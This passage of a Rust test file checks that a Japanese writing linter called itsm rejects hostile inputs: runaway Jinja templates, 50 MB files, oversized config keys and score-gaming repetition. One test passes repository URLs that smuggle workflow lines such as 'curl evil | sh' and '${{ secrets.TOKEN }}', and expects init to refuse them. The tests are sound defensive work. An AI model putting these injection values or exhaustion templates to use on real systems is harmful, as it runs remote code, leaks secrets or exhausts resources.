            )),
        );
    assert_eq!(fs::read_to_string(&p).unwrap(), "Fooを使った。\n");
    // A replacement holding a name the library bans.
    fs::write(
        dir.path().join("itsm.yaml"),
        "banned: {Foo: Slackのような道具}\n",
    )
    .unwrap();
    itsm()
        .args(["lint", "--fix"])
        .arg(&p)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "「Foo」の言い換え「Slackのような道具」に、ライブラリの禁止語「Slack」が含まれています",
        ));
    assert_eq!(fs::read_to_string(&p).unwrap(), "Fooを使った。\n");
}

// ---------------------------------------------------------------------------------------------
// Row: a library template with nested `range(10000)` loops or a doubled string.

#[test]
fn runaway_library_templates_fail_fast_naming_the_template() {
    let lib = tempfile::tempdir().unwrap();
    fs::create_dir(lib.path().join("rubrics")).unwrap();
    let essay_j2 = lib.path().join("rubrics/essay.j2");
    let draft = |expect: &str| {
        let start = Instant::now();
        itsm()
            .args([
                "draft",
                "--case",
                "fx",
                "--theme",
                "change",
                "--essay",
                "--library",
            ])
            .arg(lib.path())
            .assert()
            .code(2)
            .stdout("")
            .stderr(
                predicate::str::contains("error[L003]")
                    .and(predicate::str::contains("rubrics/essay.j2"))
                    .and(predicate::str::contains(expect)),
            );
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "{:?}",
            start.elapsed()
        );
    };
    fs::write(
        &essay_j2,
        "{% for a in range(10000) %}{% for b in range(10000) %}x{% endfor %}{% endfor %}",
    )
    .unwrap();
    draft("手順の上限");
    let doubling: String = std::iter::once("{% set s = 'xxxxxxxxxx' %}".to_owned())
        .chain((0..40).map(|_| "{% set s = s ~ s %}".to_owned()))
        .chain(std::iter::once("{{ s }}".to_owned()))
        .collect();
    fs::write(&essay_j2, doubling).unwrap();
    draft("テンプレートが作った値のさらなる連結");
    fs::write(
        &essay_j2,
        "{% set ns = namespace(s='xx') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s }}",
    )
    .unwrap();
    draft("使えない書き方");
    fs::write(
        &essay_j2,
        "{% for i in range(60000) %}{{ c.alias }}{% endfor %}",
    )
    .unwrap();
    draft("上限");
}

// ---------------------------------------------------------------------------------------------
// Row: 50 MB of newlines took 1.3–2.5 GB; 50 MB of 「あ。」 lines took 38 s.

#[test]
fn newline_heavy_text_costs_no_entry_per_line() {
    let text = "\n".repeat(500_000);
    let doc = itsm::document::Document::parse(&text, None);
    assert_eq!(doc.lines.len(), 1, "a run of blank lines is one entry");
    let idx = itsm::text::lines::LineIndex::new(&text);
    assert_eq!(idx.position(499_999), (500_000, 1));
    // Lint and the output formats on 0.5 MB of newlines and 0.35 MB of 「あ。」 lines.
    let lib = itsm::library::Library::embedded().unwrap();
    let vocab = itsm::lint::Vocabulary::from_library(&lib);
    let settings = itsm::lint::Settings::default();
    for t in [text, "あ。\n".repeat(50_000)] {
        let start = Instant::now();
        let r = itsm::lint::lint_text("big.md", &t, &vocab, &settings);
        let rs = std::slice::from_ref(&r);
        itsm::report::json(rs);
        itsm::report::human(rs, false);
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "{:?}",
            start.elapsed()
        );
    }
}

/// Peak memory (KiB) and wall time of `itsm ARGS` through `/usr/bin/time -v`.
fn measured(args: &[&std::ffi::OsStr]) -> (u64, f64) {
    let out = std::process::Command::new("/usr/bin/time")
        .arg("-v")
        .arg(assert_cmd::cargo::cargo_bin("itsm"))
        .args(args)
        .output()
        .expect("/usr/bin/time (GNU time) is installed");
    let err = stderr_of(&out);
    let field = |name: &str| -> String {
        err.lines()
            .find_map(|l| {
                l.trim()
                    .strip_prefix(name)
                    .map(str::trim)
                    .map(str::to_owned)
            })
            .unwrap_or_else(|| panic!("no {name} in {err}"))
    };
    let kb: u64 = field("Maximum resident set size (kbytes):")
        .parse()
        .unwrap();
    let wall = field("Elapsed (wall clock) time (h:mm:ss or m:ss):");
    let secs = wall
        .split(':')
        .fold(0.0, |acc, p| acc * 60.0 + p.parse::<f64>().unwrap());
    (kb, secs)
}

#[test]
#[ignore = "release-only scale test (50 MB inputs); run with `cargo test --release --test it hostile -- --ignored`"]
fn fifty_megabyte_inputs_stay_small_and_fast_in_a_release_build() {
    let dir = tempfile::tempdir().unwrap();
    let newlines = dir.path().join("newlines.md");
    fs::write(&newlines, "\n".repeat(50_000_000)).unwrap();
    let a = dir.path().join("a.md");
    fs::write(&a, "あ。\n".repeat(50_000_000 / 7)).unwrap();
    let (kb, secs) = measured(&[
        "lint".as_ref(),
        "--format".as_ref(),
        "json".as_ref(),
        newlines.as_os_str(),
    ]);
    assert!(kb < 400 * 1024, "50 MB of newlines: {kb} KiB");
    assert!(secs < 10.0, "50 MB of newlines: {secs} s");
    let (kb, secs) = measured(&[
        "lint".as_ref(),
        "--format".as_ref(),
        "json".as_ref(),
        a.as_os_str(),
    ]);
    assert!(kb < 1024 * 1024, "50 MB of あ。: {kb} KiB");
    assert!(secs < 30.0, "50 MB of あ。: {secs} s");
}

// ---------------------------------------------------------------------------------------------
// Row: a 100 MB module repeating the example scored 95, 合格.

#[test]
fn a_module_too_long_to_be_one_cannot_pass_and_a_huge_one_is_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let four = dir.path().join("four.md");
    fs::write(&four, good().repeat(4)).unwrap();
    let out = itsm()
        .args(["score", "--format", "json"])
        .arg(&four)
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let f = &v["files"][0];
    // Every item earned, but capped at D: the total is held at the top of D.
    assert!(f["total_before_caps"].as_u64().unwrap() >= 80, "{f}");
    assert!(f["total"].as_u64().unwrap() < 35, "{f}");
    assert_eq!(f["rank"], "D", "{f}");
    assert_eq!(f["pass"], false, "{f}");
    assert_eq!(f["capped"], true, "{f}");
    itsm()
        .arg("score")
        .arg(&four)
        .assert()
        .stdout(predicate::str::contains(
            "モジュールとして長すぎる（同じ具体例の繰り返しなど）で D が上限",
        ));
    itsm()
        .arg("lint")
        .arg(&four)
        .assert()
        .code(1)
        .stdout(predicate::str::contains("error[F013]: モジュールが"));
    // The 100 MB version of the attack is over the input limit.
    let huge = dir.path().join("huge.md");
    let one = good().to_owned() + "\n";
    let mut f = fs::File::create(&huge).unwrap();
    use std::io::Write;
    let n = (fsio::limits::INPUT as usize) / one.len() + 2;
    for _ in 0..n {
        f.write_all(one.as_bytes()).unwrap();
    }
    drop(f);
    itsm()
        .arg("score")
        .arg(&huge)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("大きすぎるため読み込めません"));
}

// ---------------------------------------------------------------------------------------------
// Row: a 20 MB key in itsm.yaml was echoed whole.

#[test]
fn oversize_config_keys_are_quoted_by_a_short_prefix() {
    let dir = tempfile::tempdir().unwrap();
    let essay = dir.path().join("a.md");
    fs::write(&essay, good()).unwrap();
    // Under the config limit, so it is parsed: the error quotes 60 characters of the key.
    let key = "k".repeat(200_000);
    for config in [
        format!("{key}: 1\n"),
        format!("rules:\n  {key}: off\n"),
        format!("banned: {{フー: \"{key}フー\"}}\n"),
    ] {
        fs::write(dir.path().join("itsm.yaml"), &config).unwrap();
        let out = itsm().arg("lint").arg(&essay).output().unwrap();
        assert_eq!(out.status.code(), Some(2));
        let err = stderr_of(&out);
        assert!(err.len() < 8_000, "{} bytes on stderr", err.len());
        assert!(err.contains("…（全"), "{err}");
    }
    // Over the limit: not read at all.
    fs::write(
        dir.path().join("itsm.yaml"),
        format!("{}: 1\n", "k".repeat(20_000_000)),
    )
    .unwrap();
    let out = itsm().arg("lint").arg(&essay).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr_of(&out).contains("大きすぎるため読み込めません（上限 1 MiB）"));
    assert!(stderr_of(&out).len() < 8_000);
}

// ---------------------------------------------------------------------------------------------
// Rows: `init --itsm-git` with a newline; `init` where `.github` is a file (all or nothing).

#[test]
fn init_writes_nothing_unless_everything_can_be_written() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join(".github"), "a file, not a folder").unwrap();
    itsm().arg("init").arg(dir.path()).assert().code(2);
    assert_eq!(names(dir.path()), [".github"]);
    assert_eq!(
        fs::read_to_string(dir.path().join(".github")).unwrap(),
        "a file, not a folder"
    );
}

#[test]
fn init_refuses_a_repository_url_that_would_inject_workflow_text() {
    let dir = tempfile::tempdir().unwrap();
    for url in [
        "https://example.com/x.git\n      - run: curl evil | sh",
        "https://example.com/x.git\r",
        "https://example.com/x.git ${{ secrets.TOKEN }}",
    ] {
        itsm()
            .args(["init", "--itsm-git", url])
            .arg(dir.path())
            .assert()
            .code(2);
        assert_eq!(names(dir.path()), Vec::<String>::new(), "{url:?}");
    }
}
